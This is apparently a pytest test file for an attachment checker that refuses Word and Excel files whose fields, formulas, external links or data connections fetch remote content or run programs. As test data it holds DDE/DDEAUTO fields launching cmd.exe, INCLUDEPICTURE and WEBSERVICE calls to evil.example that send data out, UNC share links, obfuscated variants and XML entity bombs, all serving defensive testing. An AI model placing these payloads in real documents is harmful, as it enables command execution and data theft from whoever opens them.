"""Office documents that fetch something by what stands in them: fields, formulas, links to programs, connections to data."""

from __future__ import annotations

import io
import random
import time
from xml.sax.saxutils import escape, quoteattr

import docx
import openpyxl
import pytest
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

from app.attachments.checking.fields import DEEPEST, LONGEST
from app.attachments.checking.parts import MOST_ELEMENTS
from app.attachments.checking.whole import check
from app.attachments.errors import Reason, Refusal
from tests.support import files

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
STRICT_W = "http://purl.oclc.org/ooxml/wordprocessingml/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
MARK = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'


def refused(name: str, data: bytes) -> Reason:
    with pytest.raises(Refusal) as caught:
        check(name, data)
    return caught.value.reason


def text(body: str, *, part: str = "word/document.xml", encoding: str = "", space: str = W) -> bytes:
    declared = f'<?xml version="1.0" encoding="{encoding}"?>' if encoding else ""
    written = f'{declared}<w:document xmlns:w="{space}"><w:body><w:p>{body}</w:p></w:body></w:document>'
    return files.archive(
        {
            "[Content_Types].xml": files.TYPES.format(files.WORD),
            "word/document.xml": "<document/>",
            part: written.encode(encoding or "utf-8"),
        }
    )


def said(*pieces: str) -> str:
    """Give an instruction as Word writes it, in as many runs as it likes."""
    return "".join(
        f'<w:r><w:instrText xml:space="preserve">{escape(one)}</w:instrText></w:r>' for one in pieces
    )


def field(*pieces: str, result: str = "") -> str:
    shown = MARK.format("separate") + f"<w:r><w:t>{result}</w:t></w:r>" if result else ""
    return MARK.format("begin") + said(*pieces) + shown + MARK.format("end")


FETCHING = (
    ' INCLUDEPICTURE "https://evil.example/pixel.png" \\d ',
    "includepicture\u00a0 https://evil.example/pixel.png",
    ' INCLUDEPICTURE "\\\\\\\\evil.example\\\\share\\\\pixel.png" ',
    ' INCLUDEPICTURE "file://evil.example/share/pixel.png" ',
    ' INCLUDEPICTURE "file:///net/evil.example/share/pixel.png" ',
    ' INCLUDETEXT "C:\\\\Users\\\\eva\\\\hemligt.txt" ',
    ' INCLUDE "https://evil.example/a.docx" ',
    " IMPORT https://evil.example/a.wmf ",
    ' DDE cmd "/c calc" ',
    ' ddeauto c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ',
    ' LINK Excel.Sheet.12 "\\\\\\\\evil.example\\\\a.xlsx" "R1C1" ',
    ' DATABASE \\d "C:\\\\bas.mdb" \\c "DSN=x" ',
    ' RD "https://evil.example/a.docx" ',
    " QUOTE 68 68 69 65 85 84 79 32 ",
)


@pytest.mark.parametrize("instruction", FETCHING)
def test_a_field_that_fetches_something_is_refused(instruction: str) -> None:
    assert refused("m.docx", text(field(instruction))) is Reason.FETCHES
    assert refused("m.docx", text(field(instruction, result="Så här såg det ut"))) is Reason.FETCHES
    simple = f"<w:fldSimple w:instr={quoteattr(instruction)}><w:r><w:t>x</w:t></w:r></w:fldSimple>"
    assert refused("m.docx", text(simple)) is Reason.FETCHES


@pytest.mark.parametrize(
    "body",
    [
        field(*" DDEAUTO cmd "),
        field(" DDE", "AUTO cmd ").replace("DDE", "<![CDATA[DD]]><!-- x -->E"),
        field(" &DDEAUTO cmd ").replace("&amp;DDE", "&#68;&#x44;E"),
        field(" DDEAUTO cmd ").replace("instrText", "delInstrText"),
        MARK.format("begin") + said(" DDEAUTO cmd "),
        said(" DDEAUTO cmd "),
        # What it is called is told by other fields.
        MARK.format("begin") + field(" REF namn ", result="DDE") + said(" cmd ") + MARK.format("end"),
        MARK.format("begin")
        + said(' INCLUDEPICTURE "')
        + field(" REF adress ")
        + said('" ')
        + MARK.format("end"),
        field(" IF 1 = 1 ", result=field(" DDEAUTO cmd ")),
        MARK.format("begin") + said(" IF 1 = 1 ") + field(" DDEAUTO cmd ") + MARK.format("end"),
    ],
    ids=[
        "letters",
        "cdata",
        "entities",
        "deleted",
        "unended",
        "outside",
        "named",
        "told",
        "result",
        "nested",
    ],
)
def test_a_field_is_found_however_it_is_written(body: str) -> None:
    assert refused("m.docx", text(body)) is Reason.FETCHES


@pytest.mark.parametrize(
    "part",
    [
        "word/document.xml",
        "word/header1.xml",
        "word/footnotes.xml",
        "word/glossary/document.xml",
        "word/x.bin",
    ],
)
def test_it_is_found_in_whatever_part_it_stands(part: str) -> None:
    assert refused("m.docx", text(field(" DDEAUTO cmd "), part=part)) is Reason.FETCHES


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "iso-8859-1", "windows-1252"])
def test_it_is_found_in_whatever_writing(encoding: str) -> None:
    assert refused("m.docx", text(field(" DDEAUTO cmd "), encoding=encoding)) is Reason.FETCHES


def test_it_is_found_in_the_strict_form_after_much_of_nothing_and_by_any_prefix() -> None:
    assert refused("m.docx", text(field(" DDEAUTO cmd "), space=STRICT_W)) is Reason.FETCHES
    body = f'<x:d xmlns:x="{W}">{field(" DDEAUTO cmd ").replace("w:", "x:")}</x:d>'
    assert refused("m.docx", files.docx(word__document_dot_xml=body)) is Reason.FETCHES
    late = " " * 600_000 + body
    assert refused("m.docx", files.docx(word__document_dot_xml=late)) is Reason.FETCHES


def test_a_text_in_a_writing_nobody_reads_is_refused() -> None:
    assert refused("m.docx", text("Ord", encoding="utf-7")) is Reason.BROKEN
    assert refused("m.docx", text("Ord", encoding="utf-32")) is Reason.BROKEN


@pytest.mark.parametrize(
    "instruction",
    [
        " PAGE \\* MERGEFORMAT ",
        ' TOC \\o "1-3" \\h \\z \\u ',
        ' HYPERLINK "https://www.kommunen.example/?a=1" ',
        " REF länk \\h ",
        " DATE \\@ yyyy-MM-dd ",
        ' QUOTE "Den 3 mars" ',
        " MERGEFIELD Import ",
        ' IF "LINK" = "DDE" "ja" "nej" ',
        # What was pasted: from a PDF on a Mac, from a mail, from a folder.
        ' INCLUDEPICTURE "/var/folders/ab/T/com.microsoft.Word/page1image1.png" \\* MERGEFORMATINET ',
        ' INCLUDEPICTURE "cid:image001.png@01D9" \\* MERGEFORMATINET ',
        ' INCLUDEPICTURE "C:\\\\Bilder\\\\hus.png" ',
        " INCLUDEPICTURE bild.png ",
        "",
    ],
)
def test_a_field_that_fetches_nothing_is_taken(instruction: str) -> None:
    assert check("m.docx", text(field(instruction, result="3")))
    assert check("m.docx", text("<w:r><w:t>LINK, DDE och INCLUDETEXT är ord i en text</w:t></w:r>"))


def test_a_document_as_word_writes_it_is_taken_with_its_fields() -> None:
    made = docx.Document()
    run = made.add_paragraph("Sida ").add_run()
    for kind, words in (("begin", ""), ("", " PAGE "), ("separate", ""), ("end", "")):
        one = OxmlElement("w:fldChar" if kind else "w:instrText")
        if kind:
            one.set(qn("w:fldCharType"), kind)
        else:
            one.text = words
        run._r.append(one)
    target = io.BytesIO()
    made.save(target)
    assert check("sidor.docx", target.getvalue())


def test_fields_without_end_are_looked_at_in_a_moment() -> None:
    for body in (
        MARK.format("begin") * (DEEPEST + 1) + said(" PAGE "),
        field("x" * (LONGEST + 1)),
        field(*["x" * 1000] * 40),
        # Packed no tighter than a text is.
        field(" PAGE ") + "".join(random.Random(1).choices(("<w:r/>", "<w:t/>"), k=MOST_ELEMENTS)),
    ):
        data = text(body)
        began = time.perf_counter()
        assert refused("m.docx", data) is Reason.BOMB
        assert time.perf_counter() - began < 10


def test_a_document_type_is_refused_in_a_part_of_any_name() -> None:
    bomb = f'<!DOCTYPE a [<!ENTITY b "x">]><a xmlns:w="{W}">{field(" PAGE ")}&b;</a>'
    assert refused("m.docx", files.docx(word__a_dot_bin=bomb)) is Reason.BOMB


def workbook(part: str, body: str) -> bytes:
    return files.archive(
        {
            "[Content_Types].xml": files.TYPES.format(files.EXCEL),
            "xl/workbook.xml": f'<workbook xmlns="{S}"/>',
            part: f'<x xmlns="{S}" xmlns:x15="http://schemas.microsoft.com/office/spreadsheetml/2010/11/main">{body}</x>',
        }
    )


@pytest.mark.parametrize(
    ("part", "body"),
    [
        ("xl/externalLinks/externalLink1.xml", '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'),
        ("xl/externalLinks/externalLink1.xml", '<oleLink progId="Package"/>'),
        ("xl/connections.xml", '<connection id="1"><dbPr connection="Provider=SQLOLEDB;Data Source=evil"/></connection>'),
        ("xl/connections.xml", '<connection id="1"><webPr url="https://evil.example/"/></connection>'),
        ("xl/connections.xml", '<connection id="1"><textPr sourceFile="\\\\evil.example\\a.csv"/></connection>'),
        ("xl/connections.xml", '<connection><extLst><x15:oledbPr connection="Provider=x"/></extLst></connection>'),
        ("xl/other.bin", '<connection><webPr url="https://evil.example/"/></connection>'),
        ("xl/worksheets/sheet1.xml", "<c><f>_xlfn.WEBSERVICE(&quot;https://evil.example/?&quot;&amp;A1)</f></c>"),
        ("xl/worksheets/sheet1.xml", "<c><f>_xlfn.IMAGE(&quot;https://evil.example/&quot;)</f></c>"),
        ("xl/worksheets/sheet1.xml", "<c><f>SUM(1,&#87;ebservice (A1))</f></c>"),
        ("xl/worksheets/sheet1.xml", "<c><f>RTD(&quot;a.b&quot;,,1)</f></c>"),
        ("xl/worksheets/sheet1.xml", "<c><f>cmd|'/c calc'!A0</f></c>"),
        ("xl/workbook.xml2", "<definedName>cmd|'/c calc'!A0</definedName>"),
    ],
)  # fmt: skip
def test_a_workbook_that_asks_others_is_refused(part: str, body: str) -> None:
    assert refused("m.xlsx", workbook(part, body)) is Reason.FETCHES


@pytest.mark.parametrize(
    ("part", "body"),
    [
        ("xl/connections.xml", '<connection type="5"><dbPr connection="Data Model Connection" command="Model"/></connection>'),
        ("xl/connections.xml", '<connection type="102"><extLst><x15:rangePr sourceName="Tabell1"/></extLst></connection>'),
        ("xl/worksheets/sheet1.xml", "<c><f>SUM('A|B'!A1,Tabell1[Andel|2024],&quot;cmd|x!&quot;)</f></c>"),
        ("xl/worksheets/sheet1.xml", "<c><f>HYPERLINK(&quot;https://www.kommunen.example/&quot;,&quot;IMAGE(&quot;)</f></c>"),
        ("xl/sharedStrings.xml", "<si><t>WEBSERVICE( och cmd|x är ord</t></si>"),
        ("xl/drawings/vmlDrawing1.vml", "<div>rad&#10;<br></div>"),
    ],
)  # fmt: skip
def test_a_workbook_that_asks_nobody_is_taken(part: str, body: str) -> None:
    assert check("m.xlsx", workbook(part, body))


def test_a_workbook_as_excel_writes_it_is_taken_with_formulas_and_names() -> None:
    made = openpyxl.Workbook()
    sheet = made.worksheets[0]
    sheet["A1"], sheet["A2"] = 1, 2
    sheet["A3"] = "=SUM(A1:A2)"
    sheet["A4"] = '=IF(A3>2,"ja | nej","")'
    made.defined_names["Summan"] = openpyxl.workbook.defined_name.DefinedName(
        "Summan", attr_text="Sheet!$A$3"
    )
    target = io.BytesIO()
    made.save(target)
    assert check("siffror.xlsx", target.getvalue())


@pytest.mark.parametrize(
    ("target", "taken"),
    [
        ("file:///C:\\Mallar\\Brev.dotx", True),
        ("H:\\Mallar\\Brev.dotx", True),
        ("file:///Users/eva/Brev.dotx", True),
        ("file:///net/evil.example/share/a.dotm", False),
        ("file:///evil.example/share/a.dotm", False),
        ("C:\\\\evil.example\\a.dotm", False),
        ("\\\\?\\UNC\\evil.example\\share\\a.dotm", False),
        ("\\\\.\\evil\\a.dotm", False),
    ],
)
def test_a_template_may_lie_on_the_writers_own_disk_and_nowhere_else(target: str, taken: bool) -> None:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    data = files.docx(
        word___rels__settings_dot_xml_dot_rels=(
            f'<Relationships><Relationship Id="r1" TargetMode="External" Type="{kind}" Target="{target}"/></Relationships>'
        )
    )
    if taken:
        assert check("m.docx", data)
    else:
        assert refused("m.docx", data) is Reason.FETCHES
